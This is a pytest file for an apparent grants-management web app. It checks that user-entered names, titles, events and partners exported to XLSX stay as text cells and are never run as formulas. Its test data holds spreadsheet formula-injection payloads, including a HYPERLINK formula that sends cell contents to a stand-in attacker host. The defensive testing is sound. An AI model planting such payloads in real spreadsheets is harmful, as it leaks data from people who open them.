"""Spreadsheets that don't execute (issue 15): what a person typed and a workbook shows —
a group's name, a title, an event, a partner — is a text cell even when it starts like a
formula, in every workbook the product makes; the builders' own totals stay formulas."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from smallgrants.applications.models import ApplicantProfile, Application
from smallgrants.auth.models import Role, User
from smallgrants.demo import demo_iin
from smallgrants.documents import xlsx
from smallgrants.extensions import db
from smallgrants.grants.models import Event
from smallgrants.reporting.models import Partner, Project, ProjectActivity

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TYPED = [HYPERLINK, "=1+2", "+77012345678 call", "-2+3", "@SUM(A1:A2)", "\tTab", "\rCR"]


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_inert(data: bytes, typed: list[str], totals: int) -> None:
    cells = _cells(data)
    by_value = {}
    for cell in cells:
        if isinstance(cell.value, str):
            by_value.setdefault(cell.value, []).append(cell)
    for value in typed:
        assert value in by_value, value
        for cell in by_value[value]:
            assert (cell.data_type, cell.quotePrefix) == ("s", True), (value, cell.coordinate)
    formulas = [c for c in cells if c.data_type == "f"]
    assert len(formulas) == totals
    assert all(str(c.value).startswith("=SUM(") for c in formulas)


def test_neutralise_keeps_only_the_builders_formulas():
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append([*TYPED, "plain", 5])
    ws.append(["=SUM(A1:A1)"])
    xlsx.keep_formula(ws, 2, 1)
    cells = _cells(xlsx.to_bytes(wb))
    assert [(c.value, c.data_type) for c in cells if c.row == 1] == [
        *((value, "s") for value in TYPED),
        ("plain", "s"),
        (5, "n"),
    ]
    assert [(c.value, c.data_type) for c in cells if c.row == 2 and c.value] == [
        ("=SUM(A1:A1)", "f")
    ]


def test_registry_xlsx_writes_typed_formulas_as_text(
    app, client, auth, create_user, create_profile, create_competition, create_application
):
    competition = create_competition(published=True)
    titles = [*TYPED[4:], "Жоба"]
    for i, (name, title) in enumerate(zip(TYPED[:4], titles, strict=True)):
        owner = create_user(f"a{i}@example.kz")
        profile = create_profile(owner, name=name, leader_iin=demo_iin(i + 1))
        application = create_application(owner, competition, profile, submit=True)
        with app.app_context():
            db.session.execute(
                update(Application).where(Application.id == application.id).values(title=title)
            )
            db.session.commit()
    auth.as_user(create_user("c@example.kz", roles=(Role.COORDINATOR,)))
    response = client.get(f"/manage/competitions/{competition.id}/applications.xlsx")
    assert response.status_code == 200
    _assert_inert(response.data, TYPED, totals=1)


@pytest.fixture
def typed_report(app, report_case):
    """The report case with formula-like text where people type: the grantee's name, an
    event, the project's title, an activity, a partner."""
    with app.app_context():
        db.session.execute(update(ApplicantProfile).values(name=HYPERLINK))
        db.session.execute(update(Event).values(title="=1+2"))
        db.session.execute(
            update(Project).where(Project.id == report_case.project_id).values(head_name="@SUM(A1)")
        )
        db.session.execute(update(ProjectActivity).values(title="+77012345678 call"))
        db.session.execute(update(Partner).values(name="-2+3"))
        db.session.commit()
        coordinator = db.session.get(User, report_case.coordinator_id)
    return report_case, coordinator


def test_monitoring_xlsx_writes_typed_formulas_as_text(client, auth, typed_report):
    case, coordinator = typed_report
    auth.as_user(coordinator)
    response = client.get(f"/manage/competitions/{case.competition_id}/monitoring.xlsx?lang=ru")
    assert response.status_code == 200
    cells = _cells(response.data)
    assert {c.value for c in cells if c.data_type == "f"} != set()  # its totals stay
    _assert_inert(response.data, [HYPERLINK, "=1+2"], totals=_sums(cells))


def test_final_report_xlsx_writes_typed_formulas_as_text(client, auth, typed_report):
    case, coordinator = typed_report
    auth.as_user(coordinator)
    response = client.get(f"/manage/projects/{case.project_id}/report.xlsx?lang=ru")
    assert response.status_code == 200
    _assert_inert(
        response.data,
        ["@SUM(A1)", "+77012345678 call", "-2+3"],
        totals=_sums(_cells(response.data)),
    )


def _sums(cells) -> int:
    return sum(1 for c in cells if c.data_type == "f" and str(c.value).startswith("=SUM("))
